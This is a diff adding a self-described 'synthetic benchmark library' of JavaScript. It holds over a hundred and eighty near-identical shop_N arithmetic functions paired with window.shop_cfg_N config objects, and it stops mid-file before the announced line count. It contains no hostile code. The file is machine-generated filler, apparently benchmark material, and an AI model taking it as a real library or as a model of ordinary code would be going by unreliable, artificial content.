@@ -0,0 +1,602 @@
+/* shop - synthetic benchmark library */
+function shop_0(a,b){var c=a+b*0;if(c>0)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_0={"id":0,"label":"shop-0","enabled":true};
+function shop_1(a,b){var c=a+b*1;if(c>1)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_1={"id":1,"label":"shop-1","enabled":false};
+function shop_2(a,b){var c=a+b*2;if(c>2)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_2={"id":2,"label":"shop-2","enabled":true};
+function shop_3(a,b){var c=a+b*3;if(c>3)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_3={"id":3,"label":"shop-3","enabled":false};
+function shop_4(a,b){var c=a+b*4;if(c>4)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_4={"id":4,"label":"shop-4","enabled":true};
+function shop_5(a,b){var c=a+b*5;if(c>5)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_5={"id":5,"label":"shop-5","enabled":false};
+function shop_6(a,b){var c=a+b*6;if(c>6)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_6={"id":6,"label":"shop-6","enabled":true};
+function shop_7(a,b){var c=a+b*7;if(c>7)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_7={"id":7,"label":"shop-7","enabled":false};
+function shop_8(a,b){var c=a+b*8;if(c>8)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_8={"id":8,"label":"shop-8","enabled":true};
+function shop_9(a,b){var c=a+b*9;if(c>9)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_9={"id":9,"label":"shop-9","enabled":false};
+function shop_10(a,b){var c=a+b*10;if(c>10)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_10={"id":10,"label":"shop-10","enabled":true};
+function shop_11(a,b){var c=a+b*11;if(c>11)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_11={"id":11,"label":"shop-11","enabled":false};
+function shop_12(a,b){var c=a+b*12;if(c>12)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_12={"id":12,"label":"shop-12","enabled":true};
+function shop_13(a,b){var c=a+b*13;if(c>13)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_13={"id":13,"label":"shop-13","enabled":false};
+function shop_14(a,b){var c=a+b*14;if(c>14)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_14={"id":14,"label":"shop-14","enabled":true};
+function shop_15(a,b){var c=a+b*15;if(c>15)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_15={"id":15,"label":"shop-15","enabled":false};
+function shop_16(a,b){var c=a+b*16;if(c>16)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_16={"id":16,"label":"shop-16","enabled":true};
+function shop_17(a,b){var c=a+b*17;if(c>17)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_17={"id":17,"label":"shop-17","enabled":false};
+function shop_18(a,b){var c=a+b*18;if(c>18)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_18={"id":18,"label":"shop-18","enabled":true};
+function shop_19(a,b){var c=a+b*19;if(c>19)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_19={"id":19,"label":"shop-19","enabled":false};
+function shop_20(a,b){var c=a+b*20;if(c>20)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_20={"id":20,"label":"shop-20","enabled":true};
+function shop_21(a,b){var c=a+b*21;if(c>21)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_21={"id":21,"label":"shop-21","enabled":false};
+function shop_22(a,b){var c=a+b*22;if(c>22)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_22={"id":22,"label":"shop-22","enabled":true};
+function shop_23(a,b){var c=a+b*23;if(c>23)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_23={"id":23,"label":"shop-23","enabled":false};
+function shop_24(a,b){var c=a+b*24;if(c>24)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_24={"id":24,"label":"shop-24","enabled":true};
+function shop_25(a,b){var c=a+b*25;if(c>25)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_25={"id":25,"label":"shop-25","enabled":false};
+function shop_26(a,b){var c=a+b*26;if(c>26)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_26={"id":26,"label":"shop-26","enabled":true};
+function shop_27(a,b){var c=a+b*27;if(c>27)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_27={"id":27,"label":"shop-27","enabled":false};
+function shop_28(a,b){var c=a+b*28;if(c>28)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_28={"id":28,"label":"shop-28","enabled":true};
+function shop_29(a,b){var c=a+b*29;if(c>29)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_29={"id":29,"label":"shop-29","enabled":false};
+function shop_30(a,b){var c=a+b*30;if(c>30)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_30={"id":30,"label":"shop-30","enabled":true};
+function shop_31(a,b){var c=a+b*31;if(c>31)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_31={"id":31,"label":"shop-31","enabled":false};
+function shop_32(a,b){var c=a+b*32;if(c>32)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_32={"id":32,"label":"shop-32","enabled":true};
+function shop_33(a,b){var c=a+b*33;if(c>33)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_33={"id":33,"label":"shop-33","enabled":false};
+function shop_34(a,b){var c=a+b*34;if(c>34)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_34={"id":34,"label":"shop-34","enabled":true};
+function shop_35(a,b){var c=a+b*35;if(c>35)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_35={"id":35,"label":"shop-35","enabled":false};
+function shop_36(a,b){var c=a+b*36;if(c>36)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_36={"id":36,"label":"shop-36","enabled":true};
+function shop_37(a,b){var c=a+b*37;if(c>37)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_37={"id":37,"label":"shop-37","enabled":false};
+function shop_38(a,b){var c=a+b*38;if(c>38)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_38={"id":38,"label":"shop-38","enabled":true};
+function shop_39(a,b){var c=a+b*39;if(c>39)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_39={"id":39,"label":"shop-39","enabled":false};
+function shop_40(a,b){var c=a+b*40;if(c>40)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_40={"id":40,"label":"shop-40","enabled":true};
+function shop_41(a,b){var c=a+b*41;if(c>41)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_41={"id":41,"label":"shop-41","enabled":false};
+function shop_42(a,b){var c=a+b*42;if(c>42)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_42={"id":42,"label":"shop-42","enabled":true};
+function shop_43(a,b){var c=a+b*43;if(c>43)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_43={"id":43,"label":"shop-43","enabled":false};
+function shop_44(a,b){var c=a+b*44;if(c>44)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_44={"id":44,"label":"shop-44","enabled":true};
+function shop_45(a,b){var c=a+b*45;if(c>45)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_45={"id":45,"label":"shop-45","enabled":false};
+function shop_46(a,b){var c=a+b*46;if(c>46)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_46={"id":46,"label":"shop-46","enabled":true};
+function shop_47(a,b){var c=a+b*47;if(c>47)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_47={"id":47,"label":"shop-47","enabled":false};
+function shop_48(a,b){var c=a+b*48;if(c>48)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_48={"id":48,"label":"shop-48","enabled":true};
+function shop_49(a,b){var c=a+b*49;if(c>49)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_49={"id":49,"label":"shop-49","enabled":false};
+function shop_50(a,b){var c=a+b*50;if(c>50)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_50={"id":50,"label":"shop-50","enabled":true};
+function shop_51(a,b){var c=a+b*51;if(c>51)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_51={"id":51,"label":"shop-51","enabled":false};
+function shop_52(a,b){var c=a+b*52;if(c>52)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_52={"id":52,"label":"shop-52","enabled":true};
+function shop_53(a,b){var c=a+b*53;if(c>53)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_53={"id":53,"label":"shop-53","enabled":false};
+function shop_54(a,b){var c=a+b*54;if(c>54)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_54={"id":54,"label":"shop-54","enabled":true};
+function shop_55(a,b){var c=a+b*55;if(c>55)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_55={"id":55,"label":"shop-55","enabled":false};
+function shop_56(a,b){var c=a+b*56;if(c>56)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_56={"id":56,"label":"shop-56","enabled":true};
+function shop_57(a,b){var c=a+b*57;if(c>57)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_57={"id":57,"label":"shop-57","enabled":false};
+function shop_58(a,b){var c=a+b*58;if(c>58)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_58={"id":58,"label":"shop-58","enabled":true};
+function shop_59(a,b){var c=a+b*59;if(c>59)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_59={"id":59,"label":"shop-59","enabled":false};
+function shop_60(a,b){var c=a+b*60;if(c>60)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_60={"id":60,"label":"shop-60","enabled":true};
+function shop_61(a,b){var c=a+b*61;if(c>61)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_61={"id":61,"label":"shop-61","enabled":false};
+function shop_62(a,b){var c=a+b*62;if(c>62)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_62={"id":62,"label":"shop-62","enabled":true};
+function shop_63(a,b){var c=a+b*63;if(c>63)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_63={"id":63,"label":"shop-63","enabled":false};
+function shop_64(a,b){var c=a+b*64;if(c>64)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_64={"id":64,"label":"shop-64","enabled":true};
+function shop_65(a,b){var c=a+b*65;if(c>65)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_65={"id":65,"label":"shop-65","enabled":false};
+function shop_66(a,b){var c=a+b*66;if(c>66)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_66={"id":66,"label":"shop-66","enabled":true};
+function shop_67(a,b){var c=a+b*67;if(c>67)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_67={"id":67,"label":"shop-67","enabled":false};
+function shop_68(a,b){var c=a+b*68;if(c>68)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_68={"id":68,"label":"shop-68","enabled":true};
+function shop_69(a,b){var c=a+b*69;if(c>69)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_69={"id":69,"label":"shop-69","enabled":false};
+function shop_70(a,b){var c=a+b*70;if(c>70)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_70={"id":70,"label":"shop-70","enabled":true};
+function shop_71(a,b){var c=a+b*71;if(c>71)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_71={"id":71,"label":"shop-71","enabled":false};
+function shop_72(a,b){var c=a+b*72;if(c>72)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_72={"id":72,"label":"shop-72","enabled":true};
+function shop_73(a,b){var c=a+b*73;if(c>73)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_73={"id":73,"label":"shop-73","enabled":false};
+function shop_74(a,b){var c=a+b*74;if(c>74)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_74={"id":74,"label":"shop-74","enabled":true};
+function shop_75(a,b){var c=a+b*75;if(c>75)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_75={"id":75,"label":"shop-75","enabled":false};
+function shop_76(a,b){var c=a+b*76;if(c>76)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_76={"id":76,"label":"shop-76","enabled":true};
+function shop_77(a,b){var c=a+b*77;if(c>77)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_77={"id":77,"label":"shop-77","enabled":false};
+function shop_78(a,b){var c=a+b*78;if(c>78)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_78={"id":78,"label":"shop-78","enabled":true};
+function shop_79(a,b){var c=a+b*79;if(c>79)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_79={"id":79,"label":"shop-79","enabled":false};
+function shop_80(a,b){var c=a+b*80;if(c>80)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_80={"id":80,"label":"shop-80","enabled":true};
+function shop_81(a,b){var c=a+b*81;if(c>81)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_81={"id":81,"label":"shop-81","enabled":false};
+function shop_82(a,b){var c=a+b*82;if(c>82)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_82={"id":82,"label":"shop-82","enabled":true};
+function shop_83(a,b){var c=a+b*83;if(c>83)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_83={"id":83,"label":"shop-83","enabled":false};
+function shop_84(a,b){var c=a+b*84;if(c>84)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_84={"id":84,"label":"shop-84","enabled":true};
+function shop_85(a,b){var c=a+b*85;if(c>85)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_85={"id":85,"label":"shop-85","enabled":false};
+function shop_86(a,b){var c=a+b*86;if(c>86)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_86={"id":86,"label":"shop-86","enabled":true};
+function shop_87(a,b){var c=a+b*87;if(c>87)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_87={"id":87,"label":"shop-87","enabled":false};
+function shop_88(a,b){var c=a+b*88;if(c>88)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_88={"id":88,"label":"shop-88","enabled":true};
+function shop_89(a,b){var c=a+b*89;if(c>89)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_89={"id":89,"label":"shop-89","enabled":false};
+function shop_90(a,b){var c=a+b*90;if(c>90)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_90={"id":90,"label":"shop-90","enabled":true};
+function shop_91(a,b){var c=a+b*91;if(c>91)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_91={"id":91,"label":"shop-91","enabled":false};
+function shop_92(a,b){var c=a+b*92;if(c>92)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_92={"id":92,"label":"shop-92","enabled":true};
+function shop_93(a,b){var c=a+b*93;if(c>93)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_93={"id":93,"label":"shop-93","enabled":false};
+function shop_94(a,b){var c=a+b*94;if(c>94)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_94={"id":94,"label":"shop-94","enabled":true};
+function shop_95(a,b){var c=a+b*95;if(c>95)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_95={"id":95,"label":"shop-95","enabled":false};
+function shop_96(a,b){var c=a+b*96;if(c>96)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_96={"id":96,"label":"shop-96","enabled":true};
+function shop_97(a,b){var c=a+b*97;if(c>0)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_97={"id":97,"label":"shop-97","enabled":false};
+function shop_98(a,b){var c=a+b*98;if(c>1)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_98={"id":98,"label":"shop-98","enabled":true};
+function shop_99(a,b){var c=a+b*99;if(c>2)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_99={"id":99,"label":"shop-99","enabled":false};
+function shop_100(a,b){var c=a+b*100;if(c>3)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_100={"id":100,"label":"shop-100","enabled":true};
+function shop_101(a,b){var c=a+b*101;if(c>4)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_101={"id":101,"label":"shop-101","enabled":false};
+function shop_102(a,b){var c=a+b*102;if(c>5)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_102={"id":102,"label":"shop-102","enabled":true};
+function shop_103(a,b){var c=a+b*103;if(c>6)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_103={"id":103,"label":"shop-103","enabled":false};
+function shop_104(a,b){var c=a+b*104;if(c>7)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_104={"id":104,"label":"shop-104","enabled":true};
+function shop_105(a,b){var c=a+b*105;if(c>8)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_105={"id":105,"label":"shop-105","enabled":false};
+function shop_106(a,b){var c=a+b*106;if(c>9)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_106={"id":106,"label":"shop-106","enabled":true};
+function shop_107(a,b){var c=a+b*107;if(c>10)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_107={"id":107,"label":"shop-107","enabled":false};
+function shop_108(a,b){var c=a+b*108;if(c>11)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_108={"id":108,"label":"shop-108","enabled":true};
+function shop_109(a,b){var c=a+b*109;if(c>12)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_109={"id":109,"label":"shop-109","enabled":false};
+function shop_110(a,b){var c=a+b*110;if(c>13)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_110={"id":110,"label":"shop-110","enabled":true};
+function shop_111(a,b){var c=a+b*111;if(c>14)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_111={"id":111,"label":"shop-111","enabled":false};
+function shop_112(a,b){var c=a+b*112;if(c>15)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_112={"id":112,"label":"shop-112","enabled":true};
+function shop_113(a,b){var c=a+b*113;if(c>16)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_113={"id":113,"label":"shop-113","enabled":false};
+function shop_114(a,b){var c=a+b*114;if(c>17)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_114={"id":114,"label":"shop-114","enabled":true};
+function shop_115(a,b){var c=a+b*115;if(c>18)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_115={"id":115,"label":"shop-115","enabled":false};
+function shop_116(a,b){var c=a+b*116;if(c>19)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_116={"id":116,"label":"shop-116","enabled":true};
+function shop_117(a,b){var c=a+b*117;if(c>20)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_117={"id":117,"label":"shop-117","enabled":false};
+function shop_118(a,b){var c=a+b*118;if(c>21)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_118={"id":118,"label":"shop-118","enabled":true};
+function shop_119(a,b){var c=a+b*119;if(c>22)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_119={"id":119,"label":"shop-119","enabled":false};
+function shop_120(a,b){var c=a+b*120;if(c>23)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_120={"id":120,"label":"shop-120","enabled":true};
+function shop_121(a,b){var c=a+b*121;if(c>24)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_121={"id":121,"label":"shop-121","enabled":false};
+function shop_122(a,b){var c=a+b*122;if(c>25)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_122={"id":122,"label":"shop-122","enabled":true};
+function shop_123(a,b){var c=a+b*123;if(c>26)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_123={"id":123,"label":"shop-123","enabled":false};
+function shop_124(a,b){var c=a+b*124;if(c>27)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_124={"id":124,"label":"shop-124","enabled":true};
+function shop_125(a,b){var c=a+b*125;if(c>28)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_125={"id":125,"label":"shop-125","enabled":false};
+function shop_126(a,b){var c=a+b*126;if(c>29)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_126={"id":126,"label":"shop-126","enabled":true};
+function shop_127(a,b){var c=a+b*127;if(c>30)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_127={"id":127,"label":"shop-127","enabled":false};
+function shop_128(a,b){var c=a+b*128;if(c>31)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_128={"id":128,"label":"shop-128","enabled":true};
+function shop_129(a,b){var c=a+b*129;if(c>32)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_129={"id":129,"label":"shop-129","enabled":false};
+function shop_130(a,b){var c=a+b*130;if(c>33)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_130={"id":130,"label":"shop-130","enabled":true};
+function shop_131(a,b){var c=a+b*131;if(c>34)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_131={"id":131,"label":"shop-131","enabled":false};
+function shop_132(a,b){var c=a+b*132;if(c>35)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_132={"id":132,"label":"shop-132","enabled":true};
+function shop_133(a,b){var c=a+b*133;if(c>36)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_133={"id":133,"label":"shop-133","enabled":false};
+function shop_134(a,b){var c=a+b*134;if(c>37)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_134={"id":134,"label":"shop-134","enabled":true};
+function shop_135(a,b){var c=a+b*135;if(c>38)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_135={"id":135,"label":"shop-135","enabled":false};
+function shop_136(a,b){var c=a+b*136;if(c>39)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_136={"id":136,"label":"shop-136","enabled":true};
+function shop_137(a,b){var c=a+b*137;if(c>40)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_137={"id":137,"label":"shop-137","enabled":false};
+function shop_138(a,b){var c=a+b*138;if(c>41)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_138={"id":138,"label":"shop-138","enabled":true};
+function shop_139(a,b){var c=a+b*139;if(c>42)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_139={"id":139,"label":"shop-139","enabled":false};
+function shop_140(a,b){var c=a+b*140;if(c>43)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_140={"id":140,"label":"shop-140","enabled":true};
+function shop_141(a,b){var c=a+b*141;if(c>44)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_141={"id":141,"label":"shop-141","enabled":false};
+function shop_142(a,b){var c=a+b*142;if(c>45)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_142={"id":142,"label":"shop-142","enabled":true};
+function shop_143(a,b){var c=a+b*143;if(c>46)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_143={"id":143,"label":"shop-143","enabled":false};
+function shop_144(a,b){var c=a+b*144;if(c>47)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_144={"id":144,"label":"shop-144","enabled":true};
+function shop_145(a,b){var c=a+b*145;if(c>48)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_145={"id":145,"label":"shop-145","enabled":false};
+function shop_146(a,b){var c=a+b*146;if(c>49)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_146={"id":146,"label":"shop-146","enabled":true};
+function shop_147(a,b){var c=a+b*147;if(c>50)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_147={"id":147,"label":"shop-147","enabled":false};
+function shop_148(a,b){var c=a+b*148;if(c>51)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_148={"id":148,"label":"shop-148","enabled":true};
+function shop_149(a,b){var c=a+b*149;if(c>52)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_149={"id":149,"label":"shop-149","enabled":false};
+function shop_150(a,b){var c=a+b*150;if(c>53)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_150={"id":150,"label":"shop-150","enabled":true};
+function shop_151(a,b){var c=a+b*151;if(c>54)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_151={"id":151,"label":"shop-151","enabled":false};
+function shop_152(a,b){var c=a+b*152;if(c>55)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_152={"id":152,"label":"shop-152","enabled":true};
+function shop_153(a,b){var c=a+b*153;if(c>56)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_153={"id":153,"label":"shop-153","enabled":false};
+function shop_154(a,b){var c=a+b*154;if(c>57)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_154={"id":154,"label":"shop-154","enabled":true};
+function shop_155(a,b){var c=a+b*155;if(c>58)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_155={"id":155,"label":"shop-155","enabled":false};
+function shop_156(a,b){var c=a+b*156;if(c>59)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_156={"id":156,"label":"shop-156","enabled":true};
+function shop_157(a,b){var c=a+b*157;if(c>60)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_157={"id":157,"label":"shop-157","enabled":false};
+function shop_158(a,b){var c=a+b*158;if(c>61)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_158={"id":158,"label":"shop-158","enabled":true};
+function shop_159(a,b){var c=a+b*159;if(c>62)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_159={"id":159,"label":"shop-159","enabled":false};
+function shop_160(a,b){var c=a+b*160;if(c>63)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_160={"id":160,"label":"shop-160","enabled":true};
+function shop_161(a,b){var c=a+b*161;if(c>64)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_161={"id":161,"label":"shop-161","enabled":false};
+function shop_162(a,b){var c=a+b*162;if(c>65)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_162={"id":162,"label":"shop-162","enabled":true};
+function shop_163(a,b){var c=a+b*163;if(c>66)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_163={"id":163,"label":"shop-163","enabled":false};
+function shop_164(a,b){var c=a+b*164;if(c>67)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_164={"id":164,"label":"shop-164","enabled":true};
+function shop_165(a,b){var c=a+b*165;if(c>68)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_165={"id":165,"label":"shop-165","enabled":false};
+function shop_166(a,b){var c=a+b*166;if(c>69)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_166={"id":166,"label":"shop-166","enabled":true};
+function shop_167(a,b){var c=a+b*167;if(c>70)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_167={"id":167,"label":"shop-167","enabled":false};
+function shop_168(a,b){var c=a+b*168;if(c>71)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_168={"id":168,"label":"shop-168","enabled":true};
+function shop_169(a,b){var c=a+b*169;if(c>72)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_169={"id":169,"label":"shop-169","enabled":false};
+function shop_170(a,b){var c=a+b*170;if(c>73)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_170={"id":170,"label":"shop-170","enabled":true};
+function shop_171(a,b){var c=a+b*171;if(c>74)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_171={"id":171,"label":"shop-171","enabled":false};
+function shop_172(a,b){var c=a+b*172;if(c>75)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_172={"id":172,"label":"shop-172","enabled":true};
+function shop_173(a,b){var c=a+b*173;if(c>76)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_173={"id":173,"label":"shop-173","enabled":false};
+function shop_174(a,b){var c=a+b*174;if(c>77)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_174={"id":174,"label":"shop-174","enabled":true};
+function shop_175(a,b){var c=a+b*175;if(c>78)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_175={"id":175,"label":"shop-175","enabled":false};
+function shop_176(a,b){var c=a+b*176;if(c>79)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_176={"id":176,"label":"shop-176","enabled":true};
+function shop_177(a,b){var c=a+b*177;if(c>80)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_177={"id":177,"label":"shop-177","enabled":false};
+function shop_178(a,b){var c=a+b*178;if(c>81)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_178={"id":178,"label":"shop-178","enabled":true};
+function shop_179(a,b){var c=a+b*179;if(c>82)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_179={"id":179,"label":"shop-179","enabled":false};
+function shop_180(a,b){var c=a+b*180;if(c>83)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_180={"id":180,"label":"shop-180","enabled":true};
+function shop_181(a,b){var c=a+b*181;if(c>84)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_181={"id":181,"label":"shop-181","enabled":false};
+function shop_182(a,b){var c=a+b*182;if(c>85)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_182={"id":182,"label":"shop-182","enabled":true};
+function shop_183(a,b){var c=a+b*183;if(c>86)return c.toString(16);return [a,b,c].join("-")}
+window.shop_cfg_183={"id":183,"label":"shop-183","enabled":false};
+function shop_184(a,b){var c=a+b*184;if(c>87)return c.toString(16);return [a,b,c].join("-")}
